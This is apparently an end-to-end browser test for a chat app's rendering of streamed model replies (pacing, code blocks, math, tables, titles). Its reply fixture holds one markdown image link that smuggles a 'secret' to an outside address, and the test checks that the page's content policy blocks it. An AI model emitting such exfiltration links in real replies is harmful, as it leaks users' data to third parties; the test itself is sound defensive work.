"""Issue 14 point 3 in a real browser: a streamed reply is rendered at most four times a second and once
more at its end; code blocks are highlighted with a language label and a copy button; math is MathML;
titles show as plain text."""

from __future__ import annotations

import itertools
import time

import pytest
from playwright.sync_api import Page, Request, expect

from tests.e2e.conftest import add_fake_model, api
from tests.fakes.openai_server import FakeModel, FakeModelServer, text

pytestmark = pytest.mark.e2e

REPLY = (" ".join(f"word{i}" for i in range(100)) + "\n\n```python\ndef f(x):\n    return x\n```\n\n"
         + r"The area is $$\int_0^1 x\,dx$$ here." + "\n\n| left | right |\n|:--|--:|\n| a | b |\n\n"
         + "![leak](http://203.0.113.9/pixel.png?q=secret)")


def setup_model(page: Page, server: FakeModelServer) -> None:
    add_fake_model(page, server)
    api(page, "POST", "/api/admin/agents", {"slug": "helper", "name": "Helper"})


def test_streamed_reply_renders_a_few_times_a_second_then_once_at_the_end(
    admin_page: Page, fake_model_server: FakeModelServer, fake_model: FakeModel, csp_violations: list[str]
) -> None:
    page = admin_page
    setup_model(page, fake_model_server)
    renders: list[Request] = []

    def count(request: Request) -> None:
        if request.url.endswith("/api/render/markdown") and request.method == "POST":
            renders.append(request)

    page.on("request", count)
    answered: list[str] = []  # the addresses that got a response (a refused one gets none)
    page.on("response", lambda r: answered.append(r.url))
    fake_model.push(text(REPLY, delay=0.03))  # ~105 chunks over ~3 s
    page.goto("/chat")
    page.get_by_label("Message").fill("**Explain** the `integral`")
    started = time.monotonic()
    page.get_by_role("button", name="Send").click()
    reply = page.locator(".message.assistant .md")
    expect(reply).to_contain_text("word50")  # shows progress while streaming
    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=20_000)
    expect(reply.locator("math")).to_have_count(1)
    # The view is at rest once its final text shows as HTML (the last render it makes), and only then
    # are the renders counted: a render still pending would be counted, or would hold the view busy.
    expect(reply).to_have_attribute("aria-busy", "false")
    elapsed = time.monotonic() - started
    assert len(renders) >= 3, renders
    assert len(renders) <= elapsed * 4 + 2, (len(renders), elapsed)
    # When the browser sent each render (its own clock): this process hears of requests in batches when
    # it is busy, so the times it hears them say nothing of the view's pacing.
    starts = [r.timing["startTime"] / 1000 for r in renders]
    gaps = [b - a for a, b in itertools.pairwise(starts)]
    assert sum(1 for g in gaps if g < 0.2) <= 1, gaps  # only the final render may follow quickly

    block = reply.locator(".code-block")
    expect(block.locator(".code-lang")).to_have_text("python")
    expect(block.locator("pre code span.k")).to_have_text(["def", "return"])  # Pygments' keyword class
    expect(reply.locator(".math.display math msubsup mo")).to_have_text("∫")
    # A table keeps its column alignment (a style attribute the policy allows); an image from another
    # server is never fetched, so the address cannot carry what the agent read anywhere.
    expect(reply.locator("td").last).to_have_css("text-align", "right")
    assert not any("203.0.113.9" in url for url in answered)
    assert any("203.0.113.9" in v and "img-src" in v for v in csp_violations), csp_violations
    # The title keeps the words of the question, not its markdown.
    expect(page.locator("#session-list .session-title").first).to_have_text("Explain the integral")
    expect(page.locator("#chat-title")).to_have_text("Explain the integral")
    page.screenshot(path="/tmp/shots/chat-rendering.png")

    # Copying a code block puts exactly its code on the clipboard.
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    block.get_by_role("button", name="Copy code").click()
    expect(block.get_by_role("button", name="Copy code")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "def f(x):\n    return x\n"

    # A saved conversation opens with one render request for all of its replies.
    renders.clear()
    batches: list[str] = []
    page.on("request", lambda r: batches.append(r.url) if r.url.endswith("/markdown/batch") else None)
    fake_model.push(text("second *reply*"))
    page.get_by_label("Message").fill("again")
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".message.assistant .md em")).to_have_text("reply")
    renders.clear()
    page.reload()
    expect(page.locator(".message.assistant .md em")).to_have_text("reply")
    expect(page.locator(".message.assistant .code-block")).to_have_count(1)
    assert len(batches) == 1 and not renders, (batches, renders)
    csp_violations[:] = [v for v in csp_violations if "203.0.113.9" not in v]  # refused on purpose
